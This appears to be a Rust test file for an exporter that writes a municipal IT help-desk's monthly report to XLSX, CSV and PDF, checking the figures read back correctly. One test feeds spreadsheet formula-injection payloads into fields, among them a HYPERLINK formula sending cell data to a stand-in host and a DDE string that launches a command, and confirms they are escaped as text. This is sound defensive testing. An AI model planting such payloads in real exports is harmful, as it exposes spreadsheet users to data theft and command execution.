//! The files agree with the figures: the XLSX read back, the CSV parsed back and the PDF's text
//! extracted (with `pdftotext`, Debian's poppler-utils) show the numbers of the fixed month.

use calamine::{Data, Reader, Xlsx};

use super::export::{self, DETAIL_HEADER, DetailValue};
use super::figures::tests::october_report;
use super::figures::{Report, datetime_text};
use super::pdf;

fn heading() -> Vec<String> {
    vec![
        "Secretaría TIC · Informe mensual de asistencia técnica".into(),
        "Periodo: octubre de 2026 (01/10/2026 a 31/10/2026)".into(),
    ]
}

fn number(cell: &Data) -> Option<f64> {
    match cell {
        Data::Float(f) => Some(*f),
        Data::Int(i) => Some(*i as f64),
        Data::DateTime(d) => Some(d.as_f64()),
        _ => None,
    }
}

fn text(cell: &Data) -> String {
    match cell {
        Data::String(s) => s.clone(),
        Data::Empty => String::new(),
        other => panic!("expected text, found {other:?}"),
    }
}

/// The row of `sheet` whose first cell is `label`.
fn row_of<'a>(rows: &'a [Vec<Data>], label: &str) -> &'a [Data] {
    rows.iter()
        .find(|r| r.first().is_some_and(|c| text_or_empty(c) == label))
        .unwrap_or_else(|| panic!("no row «{label}»"))
}

fn text_or_empty(cell: &Data) -> String {
    match cell {
        Data::String(s) => s.clone(),
        _ => String::new(),
    }
}

#[test]
fn the_xlsx_reads_back_with_the_same_figures() {
    let report: Report = october_report();
    let bytes = export::xlsx(&report, &heading()).unwrap();
    let mut book = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    assert_eq!(book.sheet_names(), vec!["General", "Detalle"]);

    let general: Vec<Vec<Data>> = book
        .worksheet_range("General")
        .unwrap()
        .rows()
        .map(<[Data]>::to_vec)
        .collect();
    let figures = |label: &str| -> Vec<Option<f64>> {
        row_of(&general, label)[1..].iter().map(number).collect()
    };
    // Period, previous period, change: real numbers, not text.
    assert_eq!(
        figures("Solicitudes recibidas")[..3],
        [Some(10.0), Some(3.0), Some(7.0)]
    );
    assert_eq!(figures("Resueltas")[..3], [Some(8.0), Some(1.0), Some(7.0)]);
    assert_eq!(
        figures("Abiertas al cierre")[..3],
        [Some(3.0), Some(2.0), Some(1.0)]
    );
    assert_eq!(
        figures("Respuestas a tiempo (%)")[..3],
        [Some(75.0), Some(100.0), Some(-25.0)]
    );
    assert_eq!(
        figures("Satisfacción promedio (1 a 5)")[..3],
        [Some(4.27), Some(4.67), Some(-0.4)]
    );
    // SLA: on time, late, rate, overdue open, running, average, median, 90th percentile
    // (without the absences).
    assert_eq!(
        figures("Solución")[..8],
        [
            Some(6.0),
            Some(2.0),
            Some(75.0),
            Some(2.0),
            Some(0.0),
            Some(10.8),
            Some(8.5),
            Some(26.0)
        ]
    );
    assert_eq!(figures("Visitas con usuario ausente")[0], Some(2.0));
    assert_eq!(figures("Educación")[..3], [Some(4.0), Some(3.0), Some(1.0)]);
    // The per-day table holds real dates.
    let first_day = general
        .iter()
        .find(|r| number(&r[0]) == Some(46296.0))
        .expect("1 October 2026 as a date (serial 46296)");
    assert!(matches!(first_day[0], Data::DateTime(_)));
    assert_eq!(number(&first_day[1]), Some(1.0));

    let detail = book.worksheet_range("Detalle").unwrap();
    let rows: Vec<&[Data]> = detail.rows().collect();
    let header: Vec<String> = rows[0].iter().map(text).collect();
    assert_eq!(header, DETAIL_HEADER);
    assert_eq!(rows.len() - 1, report.detail.len());
    for (row, expected) in rows[1..].iter().zip(&report.detail) {
        for (col, value) in export::detail_values(expected).into_iter().enumerate() {
            let cell = row.get(col).unwrap_or(&Data::Empty);
            let what = format!("{} column «{}»", expected.number, DETAIL_HEADER[col]);
            match value {
                DetailValue::Text(t) => assert_eq!(text(cell), t, "{what}"),
                DetailValue::Int(i) => assert_eq!(number(cell), Some(i as f64), "{what}"),
                DetailValue::Num(n) => assert_eq!(number(cell), n, "{what}"),
                DetailValue::Answer(a) => assert_eq!(number(cell), a.map(|a| a as f64), "{what}"),
                DetailValue::Time(None) => assert_eq!(cell, &Data::Empty, "{what}"),
                DetailValue::Time(Some(ms)) => {
                    assert!(matches!(cell, Data::DateTime(_)), "{what}: {cell:?}");
                    let serial = number(cell).unwrap();
                    assert!((serial - export::excel_serial(ms)).abs() < 1e-6, "{what}");
                }
            }
        }
    }
    // 01/10/2026 09:00 in Bogota is serial 46296.375, whatever the machine's time zone.
    let t1 = rows[3];
    assert_eq!(text(&t1[0]), "SAT-2026-000001");
    assert!((number(&t1[1]).unwrap() - 46296.375).abs() < 1e-6);
}

#[test]
fn the_csvs_parse_back_as_excel_in_es_co_expects() {
    let report = october_report();
    let bytes = export::detail_csv(&report).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "UTF-8 BOM");
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(&bytes[3..]);
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(header, DETAIL_HEADER);
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), 12);
    let t5 = &records[6];
    assert_eq!(&t5[0], "SAT-2026-000005");
    assert_eq!(&t5[1], "07/10/2026 08:00");
    assert_eq!(&t5[3], "Salud");
    assert_eq!(&t5[4], "IMP-0005");
    assert_eq!(&t5[14], "13/10/2026 10:00");
    assert_eq!(&t5[17], "Por contratista");
    assert_eq!(&t5[19], "Tarde");
    assert_eq!(&t5[20], "Tarde");
    assert_eq!(&t5[21], "26,0");
    assert_eq!(&t5[22], "");
    for (record, row) in records.iter().zip(&report.detail) {
        assert_eq!(&record[0], row.number);
        assert_eq!(&record[1], datetime_text(row.created_at));
        assert_eq!(&record[19], row.response_sla.label());
    }

    let bytes = export::general_csv(&report, &heading()).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .flexible(true)
        .from_reader(&bytes[3..]);
    let records: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    let find = |label: &str| {
        records
            .iter()
            .find(|r| r[0] == label)
            .unwrap_or_else(|| panic!("no row «{label}»"))
            .clone()
    };
    assert_eq!(
        find("Solicitudes recibidas"),
        ["Solicitudes recibidas", "10", "3", "7"]
    );
    assert_eq!(
        find("Respuestas a tiempo (%)"),
        ["Respuestas a tiempo (%)", "75,0", "100,0", "-25,0"]
    );
    assert_eq!(
        find("Satisfacción promedio (1 a 5)"),
        ["Satisfacción promedio (1 a 5)", "4,27", "4,67", "-0,40"]
    );
    assert_eq!(
        find("Solución"),
        [
            "Solución",
            "6",
            "2",
            "75,0",
            "2",
            "0",
            "10,8",
            "8,5",
            "26,0"
        ]
    );
    assert_eq!(find("Revisitas"), ["Revisitas", "2"]);
    assert_eq!(find("01/10/2026"), ["01/10/2026", "1", "2"]);
}

/// The text of a PDF, as `pdftotext -layout` extracts it.
fn pdf_text(bytes: &[u8]) -> String {
    let path = std::env::temp_dir().join(format!("campo-informe-{}.pdf", uuid::Uuid::new_v4()));
    std::fs::write(&path, bytes).unwrap();
    let out = std::process::Command::new("pdftotext")
        .args(["-layout", "-enc", "UTF-8"])
        .arg(&path)
        .arg("-")
        .output()
        .expect("pdftotext (Debian: apt-get install poppler-utils) must be installed");
    let _ = std::fs::remove_file(&path);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

#[test]
fn the_pdf_text_holds_the_headline_figures() {
    let report = october_report();
    let bytes = pdf::render(
        &report.general,
        &pdf::Heading {
            organisation: "Secretaría TIC",
            generated: "Generado el 02/11/2026 08:00 (hora de Bogotá)",
            filters: "",
        },
    );
    assert!(bytes.starts_with(b"%PDF-"));
    let text = pdf_text(&bytes);
    assert!(text.contains("Secretaría TIC"), "{text}");
    assert!(text.contains("Informe mensual de asistencia técnica"));
    assert!(text.contains("Periodo: octubre de 2026 (01/10/2026 a 31/10/2026)"));
    let cells = |label: &str| -> Vec<String> {
        let line = text
            .lines()
            .find(|l| l.trim_start().starts_with(label))
            .unwrap_or_else(|| panic!("no line «{label}» in\n{text}"));
        line[line.find(label).unwrap() + label.len()..]
            .split_whitespace()
            .map(str::to_owned)
            .collect()
    };
    assert_eq!(cells("Solicitudes recibidas"), ["10", "3", "+7"]);
    assert_eq!(cells("Resueltas"), ["8", "1", "+7"]);
    assert_eq!(cells("Anuladas"), ["1", "0", "+1"]);
    assert_eq!(cells("Abiertas al cierre"), ["3", "2", "+1"]);
    assert_eq!(cells("Traídas de periodos anteriores"), ["2", "0", "+2"]);
    assert_eq!(cells("Respuestas a tiempo (%)"), ["75,0", "100,0", "−25,0"]);
    assert_eq!(cells("Soluciones a tiempo (%)"), ["75,0", "100,0", "−25,0"]);
    assert_eq!(
        cells("Satisfacción promedio (1 a 5)"),
        ["4,27", "4,67", "−0,40"]
    );
    assert_eq!(cells("Visitas con usuario ausente"), ["2", "1", "+1"]);
    assert_eq!(cells("Por contratista"), ["1"]);
    // The charts' text is real text too.
    assert!(text.contains("Total: 10 recibidas, 8 resueltas."));
    assert!(text.contains("Página 1 de"));
}

#[test]
fn text_that_starts_like_a_formula_is_written_as_text() {
    let mut report = october_report();
    let row = &mut report.detail[0];
    row.summary = "=HYPERLINK(\"http://malo.example/?d=\"&A1,\"Ver\")".into();
    row.category = "+1+cmd|' /C calc'!A0".into();
    row.requester = "@SUM(1+1)".into();
    row.equipment = "-2+3".into();
    row.solution = "\tTab".into();
    row.resolution = "\r=1".into();
    row.assignee = "Ana = Beto".into();
    let number = row.number.clone();
    report.general.by_category[0].label = "+1+cmd|' /C calc'!A0".into();

    let bytes = export::detail_csv(&report).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(&bytes[3..]);
    let record = reader
        .records()
        .map(Result::unwrap)
        .find(|r| r[0] == *number)
        .unwrap();
    assert_eq!(
        &record[10],
        "'=HYPERLINK(\"http://malo.example/?d=\"&A1,\"Ver\")"
    );
    assert_eq!(&record[5], "'+1+cmd|' /C calc'!A0");
    assert_eq!(&record[2], "'@SUM(1+1)");
    assert_eq!(&record[4], "'-2+3");
    assert_eq!(&record[18], "'\tTab");
    assert_eq!(&record[17], "'\r=1");
    // Only the first character counts; numbers are never quoted.
    assert_eq!(&record[8], "Ana = Beto");
    assert_eq!(&record[11], report.detail[0].visits.to_string());

    // The general tables hold the category's label: quoted there too, negative numbers not.
    let general = String::from_utf8(export::general_csv(&report, &heading()).unwrap()).unwrap();
    assert!(general.contains("'+1+cmd|' /C calc'!A0;"), "{general}");
    assert!(general.contains("Respuestas a tiempo (%);75,0;100,0;-25,0"));

    // The XLSX keeps the text as typed, as a text cell (never a formula).
    let bytes = export::xlsx(&report, &heading()).unwrap();
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
    let sheet = book.worksheet_range("Detalle").unwrap();
    let formulas = book.worksheet_formula("Detalle").unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()));
    let rows: Vec<_> = sheet.rows().collect();
    let cells = rows
        .iter()
        .find(|r| text_or_empty(&r[0]) == number)
        .unwrap();
    assert_eq!(
        text(&cells[10]),
        "=HYPERLINK(\"http://malo.example/?d=\"&A1,\"Ver\")"
    );
    assert_eq!(text(&cells[2]), "@SUM(1+1)");
}
